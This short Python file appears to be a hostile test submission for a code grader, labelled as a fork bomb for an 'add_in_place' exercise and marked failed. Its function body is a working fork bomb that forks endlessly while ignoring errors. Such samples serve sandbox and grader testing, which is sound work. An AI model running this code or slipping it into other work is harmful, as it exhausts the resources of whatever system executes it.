# tries: a fork bomb
# exercise: add_in_place
# verdict: failed
# cause: timeout|crash|exception|memory|forged|answer
import os


def add_in_place(y, x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
